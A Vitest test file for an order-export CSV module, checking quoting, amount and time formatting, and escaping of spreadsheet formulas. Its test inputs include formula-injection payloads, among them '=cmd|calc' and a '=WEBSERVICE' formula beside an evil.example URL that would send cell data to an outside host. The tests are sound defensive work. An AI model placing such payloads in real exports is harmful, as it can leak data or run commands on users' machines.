import { describe, expect, it } from 'vitest'
import { csvCell, csvLineCounter, csvText, decimalText, localTime } from '../shared/csv'
import { ordersCsvHead, ordersCsvLines, type CsvOrder, type OrdersCsvMessages } from './orders-csv'

const order: CsvOrder = {
  number: 'VD-2026-000431',
  createdAt: '2026-11-21T08:42:00.000Z',
  platform: 'germany',
  status: 'pending',
  customer: {
    name: 'Sabine Koch',
    email: 'sabine.koch@post.example',
    phone: '0341 5550 118',
    company: 'Teehaus Koch GmbH',
    vatId: 'DE136695976',
  },
  total: 6370,
  currency: 'EUR',
  payment: { method: 'bank_transfer', status: 'completed' },
  lines: [
    { name: 'Abendruhe', quantity: 2 },
    { name: 'Kurkuma Plus', quantity: 1 },
  ],
  address: { street: 'Lindenallee 4', zipCode: '04105', city: 'Leipzig', country: 'Deutschland' },
  invoiceNumber: 'RE-2026-000007',
  shipment: { company: 'DHL', trackingNumber: '00340434' },
}
const messages: OrdersCsvMessages = {
  column: (column) => column.toUpperCase(),
  platform: (platform) => `platform ${platform}`,
  status: (status) => `status ${status}`,
  method: (method) => `method ${method}`,
  payment: (status) => `payment ${status}`,
  decimalMark: ',',
}
const linesOf = (orders: readonly CsvOrder[]) => ordersCsvLines(orders, messages).split('\r\n')

describe('cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+49 341', "'+49 341"],
    ['-5', "'-5"],
    ['@sum(a1)', "'@sum(a1)"],
    ['＝1', "'＝1"],
    ['\tx', `"'\tx"`],
    ['\r=1', `"'\r'=1"`],
    ['x,https://evil.example/?,=WEBSERVICE(B2)', `"x,https://evil.example/?,'=WEBSERVICE(B2)"`],
    ['Max\t=1+1', `"Max\t'=1+1"`],
    ['a;-1', `"a;'-1"`],
    ['a\n@b', `"a\n'@b"`],
    ["''=1", "'''=1"],
  ])('escape a formula after every kind of separator: %j [API-84]', (text, cell) => {
    expect(csvCell(text)).toBe(cell)
    const unquoted = cell.replace(/^"([^]*)"$/, '$1')
    expect(csvText(unquoted)).toBe(text)
  })

  it('keep texts that only contain such a character', () => {
    expect(csvCell('a=b')).toBe('a=b')
    expect(csvCell('Koch-Lang')).toBe('Koch-Lang')
    expect(csvCell('')).toBe('')
  })

  it('quote separators, quotes and line breaks', () => {
    expect(csvCell('a;b')).toBe('"a;b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"')
    expect(csvCell('=HYPERLINK("x";"y")')).toBe(`"'=HYPERLINK(""x"";""y"")"`)
    expect(csvCell('a, b')).toBe('"a, b"')
    expect(csvCell('a\tb')).toBe('"a\tb"')
  })
})

describe('amounts', () => {
  it.each([
    [0, '0,00'],
    [5, '0,05'],
    [70, '0,70'],
    [12_345, '123,45'],
    [124_990_00, '124990,00'],
    [-205, '-2,05'],
    [Number.MAX_SAFE_INTEGER, '90071992547409,91'],
  ])('format %i as %s', (minor, text) => {
    expect(decimalText(minor, ',')).toBe(text)
  })

  it('use the decimal separator of the language', () => {
    expect(decimalText(199, '.')).toBe('1.99')
  })
})

describe('times', () => {
  it('are in the time zone of the platform, in summer and winter', () => {
    expect(localTime('2026-11-21T22:30:00.000Z', 'Europe/Berlin')).toBe('2026-11-21 23:30')
    expect(localTime('2026-11-21T22:30:00.000Z', 'Europe/Istanbul')).toBe('2026-11-22 01:30')
    expect(localTime('2026-07-01T22:30:00.000Z', 'Europe/Berlin')).toBe('2026-07-02 00:30')
  })

  it('are empty if invalid', () => {
    expect(localTime('soon', 'Europe/Berlin')).toBe('')
  })
})

describe('the file', () => {
  it('starts with a UTF-8 BOM and the column headers', () => {
    expect(ordersCsvHead(messages)).toBe(
      '\uFEFFNUMBER;DATE;PLATFORM;NAME;EMAIL;PHONE;STATUS;METHOD;PAYMENT;ITEMS;TOTAL;CURRENCY;STREET;ZIPCODE;CITY;COUNTRY;INVOICE;CARGO;TRACKING;COMPANY;VATID;POSTNUMBER;OUTSTANDING\r\n',
    )
  })

  it('has one line per order', () => {
    expect(linesOf([order, order])).toHaveLength(3)
    expect(linesOf([order])[0]).toBe(
      'VD-2026-000431;2026-11-21 09:42;platform germany;Sabine Koch;sabine.koch@post.example;0341 5550 118;' +
        'status pending;method bank_transfer;payment completed;"2 × Abendruhe, 1 × Kurkuma Plus";"63,70";EUR;Lindenallee 4;04105;Leipzig;Deutschland;RE-2026-000007;DHL;00340434;Teehaus Koch GmbH;DE136695976;;"0,00"',
    )
  })

  it('escapes formulas in customer data', () => {
    const customer = { name: '=cmd|calc;"x"', email: '@evil.example', phone: '+49 341 5550 118' }
    expect(linesOf([{ ...order, customer }])[0]).toContain(
      `;"'=cmd|calc;""x""";'@evil.example;'+49 341 5550 118;`,
    )
  })
})

describe('lines that arrive in parts', () => {
  it('are counted wherever a part ends, without line ends in cells', () => {
    const file = new TextEncoder().encode('a;b\r\n"one\r\n""two""";2\r\nç;3\r\n')
    for (let cut = 0; cut <= file.length; cut += 1) {
      const count = csvLineCounter()
      count(file.subarray(0, cut))
      expect(count(file.subarray(cut))).toBe(3)
    }
  })
})
